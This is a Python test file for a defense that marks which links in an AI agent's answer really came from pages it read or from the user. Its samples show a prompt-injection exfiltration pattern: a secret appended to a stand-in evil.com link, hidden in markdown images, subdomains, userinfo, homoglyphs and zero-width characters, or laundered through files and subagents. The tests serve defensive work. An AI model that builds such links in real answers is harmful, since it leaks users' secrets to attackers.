"""Opening a link sends its address: answers say which of their links nobody put together.

Whatever an attacker makes a model hang on a link, or launder through files and subagents, the link
is not among the known ones.
"""

import pytest
from attack_world import Bench, Family, task
from hypothesis import given
from hypothesis import strategies as st

from bathysphere.flow import Ledger, ledger
from bathysphere.flow.answers import known_links
from bathysphere.flow.provenance import Source
from bathysphere.testing import calls, says

SITE, EVIL = "https://docs.example/start", "https://evil.com/a"
READ = calls("read", source="page")
STOLEN = f"{EVIL}?d=swordfish"
FILE = "/note.md"


def answer_of(*does, words="Read the page.", page=f"See {SITE} and {EVIL}", worker=()):
    """The last message of a run, and its mark."""
    bench, seen = Bench(), []
    real = bench._note_files
    bench._note_files = lambda state: (seen.append(state["messages"][-1]), real(state))
    family = Family(name="x", words=words, does=does, texts={"page": page}, worker=worker)
    bench.play(family, "sync")
    return seen[-1].response_metadata.get("flow")


def known(*does, **fields):
    return answer_of(*does, **fields)["known_links"]


def test_a_link_that_was_read_or_typed_is_known():
    assert known(READ, says(f"[the site]({SITE}), {EVIL}.")) == [SITE, EVIL]
    typed = "https://typed.example/a"
    assert known(READ, says(f"See {typed}"), words=f"Read the page and {typed}") == [typed]


@pytest.mark.parametrize(
    "answer",
    [
        f"![]({STOLEN})",
        f"[more]({STOLEN})",
        STOLEN,
        f"<{STOLEN}>",
        "https://swordfish.evil.com/a",
        f"{EVIL}/swordfish",
        f"{SITE}#swordfish",
        "https://swordfish@docs.example/start",
        "https://ｅvil.com/a",
        "https://ev\u200bil.com/a",
    ],
)
def test_a_link_that_a_model_put_together_is_not_known(answer):
    assert known(READ, says(answer)) == []


def test_a_link_is_not_laundered_through_a_file_a_subagent_or_an_echo():
    write = calls("write_file", file_path=FILE, content=STOLEN)
    read_back = calls("read_file", file_path=FILE)
    assert known(READ, write, read_back, says(STOLEN)) == []
    assert known(task("a"), says(STOLEN), worker=(READ, says(STOLEN))) == []
    source = Source("c", "fetch", STOLEN, f"Not found: {STOLEN}")
    assert known_links(STOLEN, Ledger({}), [source]) == []


def test_a_link_that_a_subagent_quotes_is_known():
    assert known(task("a"), says(SITE), worker=(READ, says(f"It names {SITE}"))) == [SITE]


def test_before_anything_untrusted_is_read_an_answer_has_no_mark():
    assert answer_of(says(SITE)) is None


LINK = st.from_regex(
    r"https://[a-z]{1,8}\.com(/[a-z]{0,5})?(\?[a-z]=[a-z0-9]{1,5})?", fullmatch=True
)


@given(st.lists(LINK, max_size=3), st.lists(LINK, min_size=1, max_size=3), LINK)
def test_a_known_link_stands_whole_in_a_source_or_was_typed(read, answered, typed):
    sources = [Source("c", "read", "page", " ".join(read))]
    words = Ledger(ledger.said("m", typed))
    plain = {link.removesuffix("/") for link in (*read, typed)}
    for link in known_links(" ".join(answered), words, sources):
        assert link.removesuffix("/") in plain
